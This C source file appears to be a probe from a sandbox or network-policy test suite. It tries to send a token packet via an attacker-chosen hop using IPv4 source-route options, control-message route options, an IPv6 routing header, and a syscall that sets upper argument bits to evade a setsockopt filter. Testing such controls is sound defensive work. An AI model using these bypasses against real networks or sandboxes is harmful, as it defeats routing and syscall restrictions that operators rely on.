/*
 * Source routes: the packet goes to the hop of an option first, whatever address was decided.
 * usage: source_route lsrr|ssrr|upper-bits|control|control-many|rthdr ADDRESS PORT HOP
 */
#include "attack.h"

/* A route of one hop, padded to four bytes. */
static size_t route(unsigned char out[8], unsigned char type, const char *hop) {
    out[0] = type;
    out[1] = 7;
    out[2] = 4;
    if (inet_pton(AF_INET, hop, out + 3) != 1)
        cannot("bad hop %s", hop);
    out[7] = 0;
    return 8;
}

static void deliver_by(int fd, const struct target *t) {
    if (sendto(fd, TOKEN, strlen(TOKEN), 0, (const struct sockaddr *)&t->address, t->length) < 0)
        stopped_at("sendto");
}

int main(int argc, char **argv) {
    if (argc != 5)
        cannot("usage: source_route METHOD ADDRESS PORT HOP");
    const char *method = argv[1];
    struct target t = target_of(argv[2], argv[3]);
    unsigned char options[8], seen[40];
    socklen_t length = sizeof seen;
    int fd = socket(t.family, SOCK_DGRAM, 0);
    if (fd < 0)
        cannot("socket: %s", strerror(errno));
    if (strncmp(method, "control", 7) == 0) {
        union {
            struct cmsghdr header;
            char bytes[CMSG_SPACE(8)];
        } control = {{0}};
        control.header = (struct cmsghdr){.cmsg_level = IPPROTO_IP, .cmsg_type = IP_RETOPTS, .cmsg_len = CMSG_LEN(8)};
        route(CMSG_DATA(&control.header), 0x83, argv[4]);
        struct iovec data = {TOKEN, strlen(TOKEN)};
        struct mmsghdr m = {.msg_hdr = {.msg_name = &t.address, .msg_namelen = t.length, .msg_iov = &data, .msg_iovlen = 1,
                                        .msg_control = &control, .msg_controllen = sizeof control}};
        if (strcmp(method, "control") == 0 ? sendmsg(fd, &m.msg_hdr, 0) < 0 : sendmmsg(fd, &m, 1, 0) != 1)
            stopped_at("send");
        reached("sent with a route in the control message");
    }
    if (strcmp(method, "rthdr") == 0) {
        /* A segment routing header with one segment. */
        unsigned char header[24] = {0, 2, 4, 0};
        if (inet_pton(AF_INET6, argv[4], header + 8) != 1)
            cannot("bad hop %s", argv[4]);
        if (setsockopt(fd, IPPROTO_IPV6, IPV6_RTHDR, header, sizeof header) != 0) {
            if (errno == EINVAL || errno == ENOPROTOOPT)
                cannot("routing header: %s", strerror(errno));
            stopped_at("routing header");
        }
        deliver_by(fd, &t);
        reached("sent with a routing header");
    }
    size_t size = route(options, strcmp(method, "ssrr") == 0 ? 0x89 : 0x83, argv[4]);
    int level = IPPROTO_IP;
    if (strcmp(method, "upper-bits") == 0
            ? syscall(SYS_setsockopt, fd, 0x5a00000000UL | (unsigned)level, 0x5a00000000UL | IP_OPTIONS, options, size) != 0
            : setsockopt(fd, level, IP_OPTIONS, options, (socklen_t)size) != 0)
        stopped_at("IP_OPTIONS");
    if (getsockopt(fd, level, IP_OPTIONS, seen, &length) != 0 || length < 7)
        stopped("the option is not set");
    deliver_by(fd, &t);
    reached("sent with a route of %u bytes", (unsigned)length);
}
